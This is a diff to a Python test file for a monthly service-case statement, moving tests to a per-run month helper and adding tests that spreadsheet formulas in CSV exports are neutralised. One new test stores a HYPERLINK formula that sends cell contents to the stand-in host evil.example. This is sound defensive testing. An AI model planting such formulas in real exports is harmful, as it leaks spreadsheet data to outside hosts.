@@ -20,7 +20,10 @@ from tests.services.review_helpers import close_job, doa_case
 
 SIGNATURE = factories.signature_data_url()
 
-MONTH = utcnow().astimezone(LIMA_TZ).strftime("%Y-%m")
+
+def this_month() -> str:
+    """The current Lima month, read when a test runs (not at import: a run may cross midnight)."""
+    return utcnow().astimezone(LIMA_TZ).strftime("%Y-%m")
 
 
 @pytest.fixture
@@ -59,7 +62,7 @@ def test_month_bounds_are_lima_months():
 
 
 def test_statement_rows_and_totals(closed):
-    data = statement.build(MONTH)
+    data = statement.build(this_month())
     assert [row.service_number for row in data.rows] == ["C300004", "T300001", "T300002"]
     assert data.total == 3 and data.met == 2 and data.met_percent == 66.7
     assert data.by_flow == {Flow.DOA_LIMA: 2, Flow.WARRANTY_LIMA: 1}
@@ -70,7 +73,7 @@ def test_statement_rows_and_totals(closed):
 
 
 def test_csv_has_every_row_and_the_totals(closed):
-    text = statement.to_csv(statement.build(MONTH)).decode("utf-8-sig")
+    text = statement.to_csv(statement.build(this_month())).decode("utf-8-sig")
     rows = list(csv.reader(io.StringIO(text)))
     assert rows[0][0] == "N.º de servicio" and len(rows[0]) == 9
     assert [r[0] for r in rows[1:4]] == ["C300004", "T300001", "T300002"]
@@ -81,19 +84,40 @@ def test_csv_has_every_row_and_the_totals(closed):
 
 
 def test_pdf_is_rendered(closed):
-    pdf = statement.to_pdf(statement.build(MONTH))
+    pdf = statement.to_pdf(statement.build(this_month()))
     assert pdf.startswith(b"%PDF") and len(pdf) > 2000
 
 
 def test_cli_prints_totals_and_writes_files(closed, runner, tmp_path):
     csv_path, pdf_path = tmp_path / "s.csv", tmp_path / "s.pdf"
     result = runner.invoke(
-        args=["statement", MONTH, "--csv", str(csv_path), "--pdf", str(pdf_path)]
+        args=["statement", this_month(), "--csv", str(csv_path), "--pdf", str(pdf_path)]
     )
     assert result.exit_code == 0, result.output
-    assert f"Casos cerrados en {MONTH}: 3" in result.output
+    assert f"Casos cerrados en {this_month()}: 3" in result.output
     assert "Con plazo cumplido: 2 (66.7 %)" in result.output
     assert "T300002" in csv_path.read_text(encoding="utf-8-sig")
     assert pdf_path.read_bytes().startswith(b"%PDF")
     bad = runner.invoke(args=["statement", "noviembre"])
     assert bad.exit_code != 0 and "AAAA-MM" in bad.output
+
+
+def test_csv_cells_are_never_formulas_and_a_closed_month_keeps_the_model_billed(app):
+    courier = factories.user(Role.COURIER)
+    boss = factories.user(Role.SUPERVISOR)
+    formula = '=HYPERLINK("http://evil.example/?x="&A1,"Ver")'
+    case = doa_case(service_number="T300010", model=formula)
+    review.approve(close_job(case, courier), boss)
+    db.session.commit()
+    # A later case for the same unit writes another model into the unit's free text.
+    factories.case(service_number="T300010", model="ESP 5250")
+    built = statement.build(this_month())
+    assert [row.model for row in built.rows] == [formula]
+    rows = list(csv.reader(io.StringIO(statement.to_csv(built).decode("utf-8-sig"))))
+    assert rows[1][0] == "T300010" and rows[1][3] == "'" + formula
+
+
+@pytest.mark.parametrize("text", ["=1+1", "+51 987", "-2+3", "@SUM(A1:A9)", "\tx", "\r=1"])
+def test_every_formula_start_is_neutralised(text):
+    assert statement._cell(text) == "'" + text
+    assert statement._cell("ESP 3250") == "ESP 3250" and statement._cell(None) == ""
